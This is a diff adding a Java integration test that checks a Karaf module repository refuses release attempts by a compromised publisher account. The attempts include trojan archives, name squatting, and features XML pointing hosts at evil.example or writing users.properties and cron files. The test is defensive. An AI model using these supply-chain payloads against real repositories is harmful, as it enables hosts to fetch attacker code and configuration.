@@ -1,0 +1,337 @@
+package be.imio.platform.distribution;
+
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.ByteArrayOutputStream;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.StandardOpenOption;
+import java.util.Base64;
+import java.util.LinkedHashMap;
+import java.util.Map;
+import java.util.jar.Attributes;
+import java.util.jar.JarOutputStream;
+import java.util.jar.Manifest;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+
+/**
+ * A publisher account in the hands of an attacker (namespace {@code aa.evil}) tries to release
+ * what is not its own, as it would send it to a real repository: another group's module inside a
+ * .kar, another group's module name, a features XML that makes hosts fetch or write what no
+ * signature pins, a bundle that serves pages outside its module. Each is refused with a stable
+ * error code, and neither the release list nor the signed targets change.
+ */
+class ReleaseAttacksIT {
+
+    private static final String PASSWORD = "Attacks-Secret-" + System.nanoTime();
+    private static final String IMIO = "imio-ci:" + PASSWORD;
+    private static final String EVIL = "evil:" + PASSWORD;
+    private static final String KARAF = "http://karaf.apache.org/xmlns/features/v1.6.0";
+    private static final HttpClient HTTP = HttpClient.newHttpClient();
+
+    private static RunningInstance repository;
+
+    @BeforeAll
+    static void startRepositoryWithIMioAndAnAttacker() throws Exception {
+        repository = RunningInstance.repositoryWithPublisher(Distribution.unpacked(), "imio-ci", PASSWORD,
+                "be.imio.platform");
+        repository.addAccount("evil", PASSWORD, "publisher");
+        Files.writeString(repository.dir.resolve("etc/be.imio.platform.repository.publishers.cfg"), "evil = aa.evil\n",
+                StandardOpenOption.APPEND);
+        repository.start();
+        // iMio's own courrier, as its developers release it: jar, pom and features XML.
+        PluginReleases.publish(repository.httpPort, IMIO, "courrier", "1.0.0");
+    }
+
+    @AfterAll
+    static void stop() throws Exception {
+        repository.close();
+    }
+
+    /** What people and hosts can see of the releases: the release list and the signed targets. */
+    private record Released(String list, byte[] targets) {
+    }
+
+    private static Released released() throws Exception {
+        HttpResponse<String> list = HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + repository.httpPort
+                + "/api/repository/releases/")).header("Authorization", basic("admin:" + repository.adminPassword()))
+                .build(), HttpResponse.BodyHandlers.ofString());
+        assertEquals(200, list.statusCode(), list.body());
+        return new Released(list.body(), get("/repository/metadata/targets.json").body());
+    }
+
+    private static void assertNothingReleased(Released before) throws Exception {
+        Released after = released();
+        assertEquals(before.list(), after.list(), "the release list is unchanged");
+        assertArrayEquals(before.targets(), after.targets(), "the signed targets are unchanged");
+    }
+
+    private static String basic(String credentials) {
+        return "Basic " + Base64.getEncoder().encodeToString(credentials.getBytes(StandardCharsets.UTF_8));
+    }
+
+    private static HttpResponse<String> put(String path, byte[] body, String credentials) throws Exception {
+        return HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + repository.httpPort
+                + "/repository/maven/" + path)).PUT(HttpRequest.BodyPublishers.ofByteArray(body))
+                .header("Authorization", basic(credentials)).build(), HttpResponse.BodyHandlers.ofString());
+    }
+
+    private static HttpResponse<byte[]> get(String path) throws Exception {
+        return HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + repository.httpPort + path)).build(),
+                HttpResponse.BodyHandlers.ofByteArray());
+    }
+
+    /** Sends {@code body} to {@code path} as {@code credentials} and checks the refusal: status, JSON, code. */
+    private static void assertRefused(int status, String code, String path, byte[] body, String credentials)
+            throws Exception {
+        Released before = released();
+        HttpResponse<String> answer = put(path, body, credentials);
+        assertEquals(status, answer.statusCode(), path + ": " + answer.body());
+        assertTrue(answer.headers().firstValue("Content-Type").orElse("").startsWith("application/json"), answer.body());
+        assertTrue(answer.body().contains("\"error\":\"" + code + "\""), path + ": " + answer.body());
+        assertNothingReleased(before);
+    }
+
+    private static byte[] jar(String symbolicName, String version, Map<String, String> headers,
+            Map<String, String> files) throws Exception {
+        Manifest manifest = new Manifest();
+        Attributes main = manifest.getMainAttributes();
+        main.put(Attributes.Name.MANIFEST_VERSION, "1.0");
+        main.putValue("Bundle-ManifestVersion", "2");
+        main.putValue("Bundle-SymbolicName", symbolicName);
+        main.putValue("Bundle-Version", version);
+        headers.forEach(main::putValue);
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (JarOutputStream jar = new JarOutputStream(bytes, manifest)) {
+            for (var file : files.entrySet()) {
+                jar.putNextEntry(new ZipEntry(file.getKey()));
+                jar.write(file.getValue().getBytes(StandardCharsets.UTF_8));
+            }
+        }
+        return bytes.toByteArray();
+    }
+
+    private static byte[] jar(String symbolicName, String version) throws Exception {
+        return jar(symbolicName, version, Map.of(), Map.of("a/B.class", "x"));
+    }
+
+    private static byte[] pom(String groupId, String artifactId, String version) {
+        return ("<project xmlns=\"http://maven.apache.org/POM/4.0.0\"><modelVersion>4.0.0</modelVersion><groupId>" + groupId
+                + "</groupId><artifactId>" + artifactId + "</artifactId><version>" + version + "</version></project>")
+                .getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static byte[] features(String feature, String version, String inside, String topLevel) {
+        return ("<features name=\"" + feature + "\" xmlns=\"" + KARAF + "\">" + topLevel + "<feature name=\"" + feature
+                + "\" version=\"" + version + "\">" + inside + "</feature></features>").getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static byte[] zip(Map<String, byte[]> entries) throws Exception {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+            for (var entry : entries.entrySet()) {
+                zip.putNextEntry(new ZipEntry(entry.getKey()));
+                zip.write(entry.getValue());
+            }
+        }
+        return bytes.toByteArray();
+    }
+
+    /** The files of a module {@code group:artifact:version} as a .kar carries them, its jar's symbolic name {@code bsn}. */
+    private static Map<String, byte[]> module(String group, String artifact, String version, String bsn, String feature)
+            throws Exception {
+        String base = "repository/" + group.replace('.', '/') + "/" + artifact + "/" + version + "/" + artifact + "-" + version;
+        Map<String, byte[]> entries = new LinkedHashMap<>();
+        entries.put(base + ".jar", jar(bsn, version));
+        entries.put(base + ".pom", pom(group, artifact, version));
+        entries.put(base + "-features.xml", features(feature, version, "<feature>scr</feature><bundle>mvn:" + group + "/"
+                + artifact + "/" + version + "</bundle>", ""));
+        return entries;
+    }
+
+    @Test
+    void aKarCannotCarryAnotherGroupsModule() throws Exception {
+        // The issue's example: courrier 9.9.9 of be.imio.platform inside aa.evil's trojan archive.
+        assertRefused(403, "outside_namespace", "aa/evil/trojan/1.0.0/trojan-1.0.0.kar",
+                zip(module("be.imio.platform", "courrier", "9.9.9", "aa.evil.trojan", "courrier")), EVIL);
+        assertEquals(404, get("/repository/maven/be/imio/platform/courrier/9.9.9/courrier-9.9.9.jar").statusCode());
+        assertEquals(404, get("/repository/maven/be/imio/platform/courrier/9.9.9/courrier-9.9.9-features.xml")
+                .statusCode());
+
+        // Its own module, with only a pom of another group beside it.
+        Map<String, byte[]> foreignPom = module("aa.evil", "trojan", "1.0.0", "aa.evil.trojan", "trojan");
+        foreignPom.put("repository/be/imio/platform/courrier/9.9.9/courrier-9.9.9.pom",
+                pom("be.imio.platform", "courrier", "9.9.9"));
+        assertRefused(403, "outside_namespace", "aa/evil/trojan/1.0.0/trojan-1.0.0.kar", zip(foreignPom), EVIL);
+
+        // Its own path, another group's symbolic name.
+        assertRefused(403, "outside_namespace", "aa/evil/trojan/1.0.0/trojan-1.0.0.kar",
+                zip(module("aa.evil", "trojan", "1.0.0", "be.imio.platform.courrier", "trojan")), EVIL);
+
+        // A features XML filed under another group.
+        Map<String, byte[]> foreignFeatures = module("aa.evil", "trojan", "1.0.0", "aa.evil.trojan", "trojan");
+        foreignFeatures.put("repository/be/imio/platform/conseil/9.9.9/conseil-9.9.9-features.xml",
+                features("conseil", "9.9.9", "<bundle>mvn:aa.evil/trojan/1.0.0</bundle>", ""));
+        assertRefused(403, "outside_namespace", "aa/evil/trojan/1.0.0/trojan-1.0.0.kar", zip(foreignFeatures), EVIL);
+
+        // A carried pom that says it is another group's artifact, checked as an uploaded one is.
+        Map<String, byte[]> lyingPom = module("aa.evil", "trojan", "1.0.0", "aa.evil.trojan", "trojan");
+        lyingPom.put("repository/aa/evil/trojan/1.0.0/trojan-1.0.0.pom", pom("be.imio.platform", "courrier", "1.0.0"));
+        assertRefused(400, "pom_mismatch", "aa/evil/trojan/1.0.0/trojan-1.0.0.kar", zip(lyingPom), EVIL);
+        assertRefused(400, "pom_mismatch", "aa/evil/liar/1.0.0/liar-1.0.0.pom", pom("be.imio.platform", "courrier", "1.0.0"),
+                EVIL);
+        assertRefused(400, "bad_pom", "aa/evil/liar/1.0.0/liar-1.0.0.pom", "<project>".getBytes(StandardCharsets.UTF_8),
+                EVIL);
+
+        // The same archive, all in its own namespace, is released: what was refused was the trespass.
+        Released before = released();
+        assertEquals(201, put("aa/evil/trojan/1.0.0/trojan-1.0.0.kar",
+                zip(module("aa.evil", "trojan", "1.0.0", "aa.evil.trojan", "trojan")), EVIL).statusCode());
+        assertTrue(!before.list().equals(released().list()) && released().list().contains("trojan-1.0.0.jar"));
+    }
+
+    @Test
+    void aSecondGroupCannotClaimAModuleName() throws Exception {
+        // aa.evil:courrier, in its own namespace, as an update of be.imio.platform:courrier.
+        assertRefused(409, "name_taken", "aa/evil/courrier/10.0.0/courrier-10.0.0.jar", jar("aa.evil.courrier", "10.0.0"),
+                EVIL);
+        assertRefused(409, "name_taken", "aa/evil/courrier/10.0.0/courrier-10.0.0-features.xml",
+                features("courrier", "10.0.0", "", ""), EVIL);
+        assertRefused(409, "name_taken", "aa/evil/courrier/10.0.0/courrier-10.0.0.kar",
+                zip(module("aa.evil", "courrier", "10.0.0", "aa.evil.courrier", "courrier")), EVIL);
+
+        // A features XML of another name that defines feature courrier, alone or in an archive.
+        assertEquals(201, put("aa/evil/mail/1.0.0/mail-1.0.0.jar", jar("aa.evil.mail", "1.0.0"), EVIL).statusCode());
+        assertRefused(409, "name_taken", "aa/evil/mail/1.0.0/mail-1.0.0-features.xml",
+                ("<features name=\"mail\" xmlns=\"" + KARAF + "\"><feature name=\"mail\" version=\"1.0.0\">"
+                        + "<bundle>mvn:aa.evil/mail/1.0.0</bundle></feature><feature name=\"courrier\" version=\"1.0.1\">"
+                        + "<bundle>mvn:aa.evil/mail/1.0.0</bundle></feature></features>").getBytes(StandardCharsets.UTF_8),
+                EVIL);
+        assertRefused(409, "name_taken", "aa/evil/poste/1.0.0/poste-1.0.0.kar",
+                zip(module("aa.evil", "poste", "1.0.0", "aa.evil.poste", "courrier")), EVIL);
+
+        // A name iMio released a bundle under, before its features XML.
+        assertEquals(201, put("be/imio/platform/agenda/1.0.0/agenda-1.0.0.jar", jar("be.imio.platform.agenda", "1.0.0"),
+                IMIO).statusCode());
+        assertRefused(409, "name_taken", "aa/evil/agenda/1.0.0/agenda-1.0.0-features.xml",
+                features("agenda", "1.0.0", "<bundle>mvn:aa.evil/mail/1.0.0</bundle>", ""), EVIL);
+        assertRefused(409, "name_taken", "aa/evil/mail/1.0.0/mail-1.0.0-features.xml",
+                ("<features name=\"mail\" xmlns=\"" + KARAF + "\"><feature name=\"mail\" version=\"1.0.0\">"
+                        + "<bundle>mvn:aa.evil/mail/1.0.0</bundle></feature><feature name=\"agenda\" version=\"1.0.0\">"
+                        + "<bundle>mvn:aa.evil/mail/1.0.0</bundle></feature></features>").getBytes(StandardCharsets.UTF_8),
+                EVIL);
+
+        // A feature of the platform itself, which Karaf could pick for every module depending on it.
+        assertRefused(409, "name_taken", "aa/evil/mail/1.0.0/mail-1.0.0-features.xml",
+                ("<features name=\"mail\" xmlns=\"" + KARAF + "\"><feature name=\"mail\" version=\"1.0.0\">"
+                        + "<bundle>mvn:aa.evil/mail/1.0.0</bundle></feature><feature name=\"scr\" version=\"99.0.0\">"
+                        + "<bundle>mvn:aa.evil/mail/1.0.0</bundle></feature></features>").getBytes(StandardCharsets.UTF_8),
+                EVIL);
+
+        // Its own name is its own, and then no other group's.
+        assertEquals(201, put("aa/evil/mail/1.0.0/mail-1.0.0-features.xml", features("mail", "1.0.0",
+                "<bundle>mvn:aa.evil/mail/1.0.0</bundle>", ""), EVIL).statusCode());
+        assertRefused(409, "name_taken", "be/imio/platform/mail/1.0.0/mail-1.0.0.jar", jar("be.imio.platform.mail", "1.0.0"),
+                IMIO);
+    }
+
+    @Test
+    void aFeaturesXmlCannotMakeHostsFetchOrWriteWhatIsNotPinned() throws Exception {
+        assertEquals(201, put("aa/evil/pinned/1.0.0/pinned-1.0.0.jar", jar("aa.evil.pinned", "1.0.0"), EVIL).statusCode());
+        String bundle = "<bundle>mvn:aa.evil/pinned/1.0.0</bundle>";
+        Map<String, String[]> attacks = new LinkedHashMap<>();
+        attacks.put("config external", new String[] {"features_attribute_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned\" external=\"true\">http://evil.example/pinned.cfg</config>", ""});
+        attacks.put("config external=1", new String[] {"features_attribute_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned\" external=\"1\">http://evil.example/pinned.cfg</config>", ""});
+        attacks.put("config override", new String[] {"features_attribute_not_allowed", bundle
+                + "<config name=\"aa.evil.pinned\" override=\"true\">a = 1</config>", ""});
+        attacks.put("config of the host", new String[] {"config_outside_module", bundle
+                + "<config name=\"be.imio.platform.host\">repositoryUrl = http://evil.example/</config>", ""});
+        attacks.put("config of Maven", new String[] {"config_outside_module", bundle
+                + "<config name=\"org.ops4j.pax.url.mvn\" append=\"true\">org.ops4j.pax.url.mvn.repositories ="
+                + " http://evil.example/</config>", ""});
+        attacks.put("resource-repository", new String[] {"features_element_not_allowed", bundle,
+                "<resource-repository>http://evil.example/index.xml</resource-repository>"});
+        attacks.put("configfile", new String[] {"features_element_not_allowed", bundle
+                + "<configfile finalname=\"${karaf.etc}/users.properties\">mvn:aa.evil/pinned/1.0.0</configfile>", ""});
+        attacks.put("configfile override", new String[] {"features_element_not_allowed", bundle
+                + "<configfile finalname=\"/etc/cron.d/pinned\" override=\"true\">mvn:aa.evil/pinned/1.0.0</configfile>", ""});
+        attacks.put("library", new String[] {"features_element_not_allowed", bundle
+                + "<library type=\"boot\">mvn:aa.evil/pinned/1.0.0</library>", ""});
+        attacks.put("conditional", new String[] {"features_element_not_allowed", bundle + "<conditional>"
+                + "<condition>scr</condition><configfile finalname=\"etc/x.cfg\">mvn:aa.evil/pinned/1.0.0</configfile>"
+                + "</conditional>", ""});
+        attacks.put("capability", new String[] {"features_element_not_allowed", bundle
+                + "<capability>osgi.service;objectClass=javax.servlet.Servlet</capability>", ""});
+        attacks.put("wrap", new String[] {"external_reference", "<bundle>wrap:http://evil.example/x.jar</bundle>", ""});
+        attacks.put("blueprint", new String[] {"external_reference", bundle
+                + "<bundle>blueprint:http://evil.example/x.xml</bundle>", ""});
+        attacks.put("bundle in a conditional", new String[] {"external_reference", bundle + "<conditional>"
+                + "<condition>webconsole</condition><bundle>http://evil.example/x.jar</bundle></conditional>", ""});
+        attacks.put("repository by URL", new String[] {"external_reference", bundle,
+                "<repository>http://evil.example/features.xml</repository>"});
+        attacks.put("repository not released", new String[] {"not_released_here", bundle,
+                "<repository>mvn:aa.evil/other/1.0.0/xml/features</repository>"});
+        for (var attack : attacks.entrySet()) {
+            String[] a = attack.getValue();
+            assertRefused(400, a[0], "aa/evil/pinned/1.0.0/pinned-1.0.0-features.xml",
+                    features("pinned", "1.0.0", a[1], a[2]), EVIL);
+        }
+
+        // However it arrives: inside an archive too.
+        Map<String, byte[]> kar = module("aa.evil", "boxed", "1.0.0", "aa.evil.boxed", "boxed");
+        kar.put("repository/aa/evil/boxed/1.0.0/boxed-1.0.0-features.xml", features("boxed", "1.0.0",
+                "<bundle>mvn:aa.evil/boxed/1.0.0</bundle><config name=\"aa.evil.boxed\" external=\"true\">"
+                + "http://evil.example/x.cfg</config>", ""));
+        assertRefused(400, "features_attribute_not_allowed", "aa/evil/boxed/1.0.0/boxed-1.0.0.kar", zip(kar), EVIL);
+
+        // What a module needs stays allowed: dependencies, released bundles, its own inline configuration.
+        HttpResponse<String> allowed = put("aa/evil/pinned/1.0.0/pinned-1.0.0-features.xml", features("pinned", "1.0.0",
+                "<feature>scr</feature>" + bundle + "<config name=\"aa.evil.pinned\">a = 1</config>", ""), EVIL);
+        assertEquals(201, allowed.statusCode(), allowed.body());
+    }
+
+    private static String component(String properties) {
+        return "<?xml version=\"1.0\"?><scr:component xmlns:scr=\"http://www.osgi.org/xmlns/scr/v1.3.0\" name=\"web\">"
+                + "<implementation class=\"aa.evil.web.Page\"/><service><provide interface=\"javax.servlet.Servlet\"/>"
+                + "</service>" + properties + "</scr:component>";
+    }
+
+    private static byte[] componentJar(String properties) throws Exception {
+        return jar("aa.evil.web", "1.0.0", Map.of("Service-Component", "OSGI-INF/*.xml"),
+                Map.of("OSGI-INF/aa.evil.web.Page.xml", component(properties)));
+    }
+
+    @Test
+    void aBundleCannotServePagesOutsideItsModule() throws Exception {
+        String path = "aa/evil/web/1.0.0/web-1.0.0.jar";
+        for (String property : new String[] {
+            "<property name=\"osgi.http.whiteboard.servlet.pattern\" value=\"/*\"/>",
+            "<property name=\"osgi.http.whiteboard.context.select\""
+                    + " value=\"(osgi.http.whiteboard.context.name=default)\"/>",
+            "<property name=\"osgi.http.whiteboard.resource.pattern\" value=\"/static/*\"/>"
+                    + "<property name=\"osgi.http.whiteboard.resource.prefix\" value=\"/www\"/>",
+            "<property name=\"osgi.http.whiteboard.filter.pattern\" value=\"/console/*\"/>"}) {
+            assertRefused(400, "whiteboard_outside_module", path, componentJar(property), EVIL);
+        }
+        assertRefused(400, "whiteboard_outside_module", path, jar("aa.evil.web", "1.0.0",
+                Map.of("Web-ContextPath", "/console"), Map.of("a/B.class", "x")), EVIL);
+        assertRefused(400, "module_name_not_own", path,
+                componentJar("<property name=\"imio.module\" value=\"courrier\"/>"), EVIL);
+
+        HttpResponse<String> own = put(path, componentJar("<property name=\"imio.module\" value=\"web\"/>"), EVIL);
+        assertEquals(201, own.statusCode(), own.body());
+    }
+}
